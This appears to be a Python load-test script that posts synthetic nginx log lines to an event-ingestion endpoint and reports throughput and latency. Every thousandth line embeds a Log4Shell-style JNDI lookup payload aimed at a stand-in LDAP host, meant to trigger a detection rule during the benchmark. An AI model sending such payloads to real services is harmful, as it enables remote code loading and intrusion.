"""The load, in a process of its own: ``load.py URL BATCH SECONDS [EVENTS_PER_SECOND]``.

Sixteen connections post nginx lines and wait for each 200; told to come again (429, 503), they wait
as long as `Retry-After` says and post the same body. Prints acknowledged events per second.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import sys
import time

import aiohttp

TOKEN = "of-the-benchmark"
CONNECTIONS = 16
COME_AGAIN = (429, 503)
WARM_SECONDS = 1.0  # not counted
LINE = (
    '192.0.2.{} - C{:05} [24/Jan/2026:07:34:{:02} +0000] "GET /invoices/{} HTTP/1.1" 200 6203 '
    '"https://www.example.org/" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120"'
)


ATTACK = LINE.replace("/invoices/{}", "/invoices/{}?name=${{jndi:ldap://198.51.100.7/a}}")
ATTACKS_EVERY = 1000  # a line that a rule knows: what comes of it is an alert


def bodies(batch: int) -> list[bytes]:
    lines = [
        (LINE if n % ATTACKS_EVERY else ATTACK).format(n % 250, n % 3000, n % 60, n % 5000)
        for n in range(max(batch, 20_000))
    ]
    step = range(0, len(lines) - batch + 1, batch)
    return ["\n".join(lines[first : first + batch]).encode() for first in step]


async def main(url: str, batch: int, seconds: float, rate: float) -> None:
    made = bodies(batch)
    headers = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "text/plain"}
    done, turned_away, took = 0, 0, []
    begun, used = time.monotonic(), time.process_time()

    async def post(client: aiohttp.ClientSession, number: int) -> None:
        nonlocal done, turned_away
        turn = number
        while (now := time.monotonic()) - begun < seconds:
            if rate and done >= rate * (now - begun):
                await asyncio.sleep(0.002)
                continue
            async with client.post(
                f"{url}/v1/events", data=made[turn % len(made)], headers=headers
            ) as answer:
                said = await answer.text()
            if answer.status in COME_AGAIN:
                turned_away += 1
                await asyncio.sleep(float(answer.headers["Retry-After"]))
                continue
            assert answer.status == 200, said
            took.append(time.monotonic() - now)
            done += batch
            turn += CONNECTIONS

    async with aiohttp.ClientSession() as client:
        begun = time.monotonic() - seconds + min(WARM_SECONDS, seconds)
        await asyncio.gather(*(post(client, number) for number in range(2)))
        done, turned_away, begun, used = 0, 0, time.monotonic(), time.process_time()
        took.clear()
        await asyncio.gather(*(post(client, number) for number in range(CONNECTIONS)))
    elapsed = time.monotonic() - begun
    took.sort()
    print(
        json.dumps(
            {
                "batch": batch,
                "corpus_sha256": hashlib.sha256(b"\n".join(made)).hexdigest()[:16],
                "load_cpu_seconds": round(time.process_time() - used, 2),
                "events": done,
                "events_per_second": round(done / elapsed),
                "turned_away": turned_away,
                "answer_p50_ms": round(1000 * took[len(took) // 2], 1),
                "answer_p99_ms": round(1000 * took[len(took) * 99 // 100], 1),
            }
        )
    )


if __name__ == "__main__":
    argv = sys.argv[1:]
    asyncio.run(main(argv[0], int(argv[1]), float(argv[2]), float(argv[3]) if argv[3:] else 0.0))
